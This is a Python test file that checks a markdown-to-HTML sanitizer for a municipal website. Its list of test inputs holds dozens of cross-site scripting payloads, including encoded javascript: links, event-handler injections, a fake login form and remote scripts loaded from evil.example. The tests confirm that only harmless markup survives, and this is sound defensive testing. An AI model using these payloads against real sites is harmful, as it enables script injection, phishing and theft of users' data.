"""Whatever an editor writes, what is shown holds only harmless marks."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.markdown import TAGS, to_html

HARMLESS = {"", "http", "https", "mailto", "tel"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<form action=https://evil.example><input name=p><button>Logga in</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<div style='position:fixed;inset:0'>över allt</div>",
    "<a href='javascript:alert(1)'>klicka</a>",
    "<p onclick=alert(1) id=x class=y>klicka</p>",
    "<template><p>gömt</p></template>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[klicka](javascript:alert(1))",
    "[klicka](JaVaScRiPt:alert(1))",
    "[klicka](java\nscript:alert(1))",
    "[klicka](&#106;avascript:alert(1))",
    "[klicka](javascript&colon;alert(1))",
    "[klicka](%6Aavascript:alert(1))",
    "[klicka](vbscript:msgbox(1))",
    "[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klicka](data:image/svg+xml,<svg onload=alert(1)>)",
    "[klicka](file:///etc/passwd)",
    "[klicka](ftp://evil.example/x)",
    "[klicka](ms-msdt:/id)",
    "<intent://evil.example#Intent;end>",
    "[klicka][ond]\n\n[ond]: javascript:alert(1)",
    '[klicka](https://ok.example "x\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "![bild](https://evil.example/spion.gif)",
    "![bild](javascript:alert(1))",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "\x00<script>alert(1)</script>",
]


class Seen(HTMLParser):
    """The marks of a page, as a browser finds them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, list[str]] = {}
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.setdefault(name, []).append(value or "")

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.tags <= TAGS
    assert seen.attributes.keys() <= {"href", "rel", "title", "lang"}
    assert seen.others == []
    for href in seen.attributes.get("href", []):
        assert urlsplit(href).scheme in HARMLESS


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_only_harmless_marks(attack: str) -> None:
    assert_harmless(to_html(attack))
    assert_harmless(to_html(f"Före.\n\n{attack}\n\nEfter."))


@given(st.lists(st.sampled_from([*ATTACKS, "*", "<", ">", '"', "\n", "](", "`", "&lt;"])))
def test_no_mixture_of_attacks_is_harmful(parts: list[str]) -> None:
    assert_harmless(to_html("".join(parts)))


@pytest.mark.parametrize("attack", ["<script>alert(1)</script>", "<b>fet</b>", "<img src=x>"])
def test_raw_html_is_shown_as_the_text_it_is(attack: str) -> None:
    shown = to_html(attack)
    assert Seen(shown).tags == {"p"}
    assert attack.replace("<", "&lt;").replace(">", "&gt;") in shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Ja.", "<p>Ja.</p>\n"),
        ("# Ett", "<h3>Ett</h3>\n"),
        ("## Två", "<h3>Två</h3>\n"),
        ("### Tre", "<h4>Tre</h4>\n"),
        ("###### Sex", "<h4>Sex</h4>\n"),
        ("*a* **b** `c`", "<p><em>a</em> <strong>b</strong> <code>c</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("1. a", "<ol>\n<li>a</li>\n</ol>\n"),
        ("a & b", "<p>a &amp; b</p>\n"),
        ("", ""),
        (
            "[sidan](https://www.huddinge.se)",
            '<p><a href="https://www.huddinge.se" rel="noopener noreferrer">sidan</a></p>\n',
        ),
        (
            "[skriv](mailto:bidrag@huddinge.se)",
            '<p><a href="mailto:bidrag@huddinge.se" rel="noopener noreferrer">skriv</a></p>\n',
        ),
    ],
)
def test_what_editors_mean_is_shown(written: str, shown: str) -> None:
    assert to_html(written) == shown


def test_a_table_of_prices_is_a_table() -> None:
    shown = Seen(to_html("| Sal | Pris |\n|---|---|\n| Aula | 300 kr |"))
    assert shown.tags == {"table", "thead", "tbody", "tr", "th", "td"}
